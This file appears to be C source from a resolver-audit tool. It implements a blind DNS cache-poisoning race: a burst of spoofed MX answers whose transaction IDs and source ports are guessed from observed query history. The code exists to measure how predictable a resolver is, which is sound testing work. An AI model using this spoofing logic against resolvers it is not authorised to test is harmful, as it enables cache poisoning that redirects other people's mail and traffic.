/*
 * mxa_race — the blind race: what an off-path attacker would send, knowing only what
 * phase 1 taught him about the target's IDs and source ports.
 *
 * The burst is built without looking at the query it races: the name is the one we made
 * the target look up (lower case: the attacker cannot know 0x20 bits), the destination is
 * the address the target's queries came from in phase 1, and the (ID, port) pairs are
 * guesses from the history of queries seen before this one:
 *   - each predictor of audit.h (same, +1, last step, most common step) that guessed
 *     right in phase 1 proposes last + k * step for k = 0, 1, 2, ... (the target may have
 *     sent queries we did not see), the predictors taken in order of their hit rate;
 *   - for ports, the last port +- 1..NEAR_PORTS (allocators that stay close);
 *   - the rest are random values keeping every bit that never changed in phase 1 (a
 *     process-derived or 15-bit ID keeps some bits fixed), for ports inside the range
 *     phase 1 observed;
 *   - the budget (--race-packets) is split between IDs and ports by what phase 1 showed:
 *     one port when it never changed, a small ID window when IDs are predictable, an even
 *     split (square root) when both look random (the odds are the same for any split).
 * The query's arrival only starts the clock (a real attacker times the burst from his own
 * trigger); its ID, port and case are never read here. The true answer is held back
 * MXA_RACE_HOLD_MS by mxa_dns.c meanwhile.
 *
 * Bounds: at most MXA_RACE_PACKETS_MAX packets per burst, all to one address; a send
 * error other than a full buffer ends the burst.
 */
#include <sys/socket.h>

#include <errno.h>
#include <stdlib.h>
#include <string.h>

#include "mxaudit/mxaudit.h"
#include "util/log.h"
#include "util/rand.h"

#define PRED_MIN_HIT   0.05 /* a predictor right less often than this proposes nothing */
#define WINDOW_PREDICT 32   /* IDs (or ports) tried around a good prediction */
#define NEAR_PORTS     4    /* ports tried either side of the last one */

struct seen {
	uint8_t bits[8192];
};

static bool
seen_add(struct seen *s, uint16_t v)
{
	if (s->bits[v >> 3] & (1u << (v & 7)))
		return false;
	s->bits[v >> 3] |= (uint8_t)(1u << (v & 7));
	return true;
}

static double
best_hit(const struct audit_stats *st)
{
	double best = 0;
	int p;

	for (p = 0; p < AP_NPRED; p++)
		if (st->predict[p] > best)
			best = st->predict[p];
	return best;
}

/*
 * Up to want guesses for the next value of the sequence h[0..nh), most likely first,
 * inside [lo, hi]: the predictors' windows, then last +- 1..near, then random values.
 * st describes the sequence (phase 1).
 */
static size_t
guess(const uint16_t *h, size_t nh, const struct audit_stats *st, uint16_t lo, uint16_t hi,
    unsigned near, size_t want, uint16_t *out)
{
	struct seen *seen;
	uint16_t last, prev, base[AP_NPRED], fixmask = 0, fixval = 0, v;
	int32_t step[AP_NPRED];
	int order[AP_NPRED], p, i, j, t;
	size_t n = 0, k, tries;
	bool more;

	seen = calloc(1, sizeof(*seen));
	if (seen == NULL)
		return 0;
	if (nh > 0) {
		last = h[nh - 1];
		prev = nh >= 2 ? h[nh - 2] : last;
		base[AP_SAME] = last;
		step[AP_SAME] = 0;
		base[AP_INC] = (uint16_t)(last + 1);
		step[AP_INC] = 1;
		step[AP_DELTA] = (int16_t)(uint16_t)(last - prev);
		base[AP_DELTA] = (uint16_t)(last + step[AP_DELTA]);
		step[AP_COMMON] = st->common_delta;
		base[AP_COMMON] = (uint16_t)(last + step[AP_COMMON]);
		for (p = 0; p < AP_NPRED; p++)
			order[p] = p;
		for (i = 1; i < AP_NPRED; i++) /* by hit rate, best first */
			for (j = i; j > 0 && st->predict[order[j]] > st->predict[order[j - 1]];
			     j--) {
				t = order[j];
				order[j] = order[j - 1];
				order[j - 1] = t;
			}
		for (k = 0, more = true; more && n < want && k < 65536; k++) {
			more = false;
			for (i = 0; i < AP_NPRED && n < want; i++) {
				p = order[i];
				if (st->predict[p] < PRED_MIN_HIT || (step[p] == 0 && k > 0))
					continue;
				more = true;
				v = (uint16_t)(base[p] + (int64_t)k * step[p]);
				if (v >= lo && v <= hi && seen_add(seen, v))
					out[n++] = v;
			}
		}
	}
	/* Allocators that pick a port close to the last one. */
	for (k = 1; nh > 0 && k <= near && n < want; k++)
		for (i = -1; i <= 1 && n < want; i += 2) {
			v = (uint16_t)(h[nh - 1] + i * (int)k);
			if (v >= lo && v <= hi && seen_add(seen, v))
				out[n++] = v;
		}
	/* Bits that never changed in phase 1 stay as they were. */
	if (st->n >= AUDIT_MIN_SAMPLES && nh > 0)
		for (i = 0; i < 16; i++)
			if (st->bit_ones[i] <= 0.0 || st->bit_ones[i] >= 1.0) {
				fixmask |= (uint16_t)(1u << i);
				if (st->bit_ones[i] >= 1.0)
					fixval |= (uint16_t)(1u << i);
			}
	for (tries = 0; n < want && tries < want * 8 + 1024; tries++) {
		v = (uint16_t)(lo + rand_uniform((uint32_t)hi - lo + 1));
		v = (uint16_t)((v & ~fixmask) | fixval);
		if (v >= lo && v <= hi && seen_add(seen, v))
			out[n++] = v;
	}
	free(seen);
	return n;
}

/* The most common source address of phase 1's UDP queries: where the burst goes. */
static bool
race_target(struct mxa *m)
{
	size_t i, j, best = 0, c;

	if (m->race_to_ok)
		return true;
	for (i = 0; i < m->nq_phase1; i++) {
		if (m->q[i].tcp)
			continue;
		for (c = 0, j = i; j < m->nq_phase1 && c <= best; j++)
			if (!m->q[j].tcp && net_addr_eq(&m->q[i].src, &m->q[j].src))
				c++;
		if (c > best) {
			best = c;
			m->race_to = m->q[i].src;
		}
		if (best * 2 > m->nq_phase1)
			break;
	}
	m->race_to_ok = best > 0;
	return m->race_to_ok;
}

uint64_t
mxa_race_burst(struct mxa *m, struct mxa_domain *d)
{
	uint16_t *hid = NULL, *hport = NULL, *ids = NULL, *ports = NULL;
	uint8_t pkt[512];
	struct net_addr to;
	size_t plen, nh = 0, i, j, wi, wp, ni, np, budget, range;
	uint64_t sent = 0;
	char as[NET_ADDR_STRLEN];

	if (!race_target(m))
		return 0;
	plen = mxa_dns_blind_mx(m, d, pkt, sizeof(pkt));
	if (plen == 0)
		return 0;
	/* The history: UDP queries before this one (the last recorded is the race query). */
	hid = calloc(m->nq + 1, sizeof(*hid));
	hport = calloc(m->nq + 1, sizeof(*hport));
	budget = m->race_packets;
	ids = calloc(budget + 1, sizeof(*ids));
	ports = calloc(budget + 1, sizeof(*ports));
	if (hid == NULL || hport == NULL || ids == NULL || ports == NULL)
		goto done;
	for (i = 0; i + 1 < m->nq; i++)
		if (!m->q[i].tcp && net_addr_eq(&m->q[i].src, &m->race_to)) {
			hid[nh] = m->q[i].id;
			hport[nh++] = m->q[i].sport;
		}

	range = m->ports1.n > 0 ? (size_t)m->ports1.max - m->ports1.min + 1 : 65535;
	if (m->ports1.distinct <= 1) {
		wp = 1;
		wi = budget;
	} else if (m->ids1.distinct <= 1) {
		wi = 1;
		wp = budget;
	} else if (best_hit(&m->ids1) >= 0.5) {
		wi = budget < WINDOW_PREDICT ? budget : WINDOW_PREDICT;
		wp = budget / wi;
	} else if (best_hit(&m->ports1) >= 0.5) {
		wp = budget < WINDOW_PREDICT ? budget : WINDOW_PREDICT;
		wi = budget / wp;
	} else {
		for (wp = 1; (wp + 1) * (wp + 1) <= budget; wp++)
			; /* the square root, rounded down */
		wi = budget / wp;
	}
	if (wp > range)
		wp = range;
	if (wi > 65536)
		wi = 65536;
	ni = guess(hid, nh, &m->ids1, 0, 0xffff, 0, wi, ids);
	np = guess(hport, nh, &m->ports1, m->ports1.n > 0 ? m->ports1.min : 1,
	    m->ports1.n > 0 ? m->ports1.max : 0xffff, NEAR_PORTS, wp, ports);
	/* Ports first in the outer loop: every ID guess on the likeliest port first. */
	to = m->race_to;
	for (i = 0; i < np && sent < budget; i++) {
		if (net_addr_family(&to) == AF_INET)
			((struct sockaddr_in *)&to.ss)->sin_port = htons(ports[i]);
		else
			((struct sockaddr_in6 *)&to.ss)->sin6_port = htons(ports[i]);
		for (j = 0; j < ni && sent < budget; j++) {
			pkt[0] = (uint8_t)(ids[j] >> 8);
			pkt[1] = (uint8_t)ids[j];
			if (sendto(m->udp, pkt, plen, 0, (const struct sockaddr *)&to.ss, to.len) ==
			    -1) {
				m->send_errors++;
				if (errno != EAGAIN && errno != ENOBUFS && errno != ECONNREFUSED)
					goto done;
			}
			sent++;
		}
	}
	log_debug("race %s: %llu packets to %s (%zu ports x %zu IDs)", d->name,
	    (unsigned long long)sent, net_addr_host(&m->race_to, as, sizeof(as)), np, ni);
done:
	free(hid);
	free(hport);
	free(ids);
	free(ports);
	return sent;
}
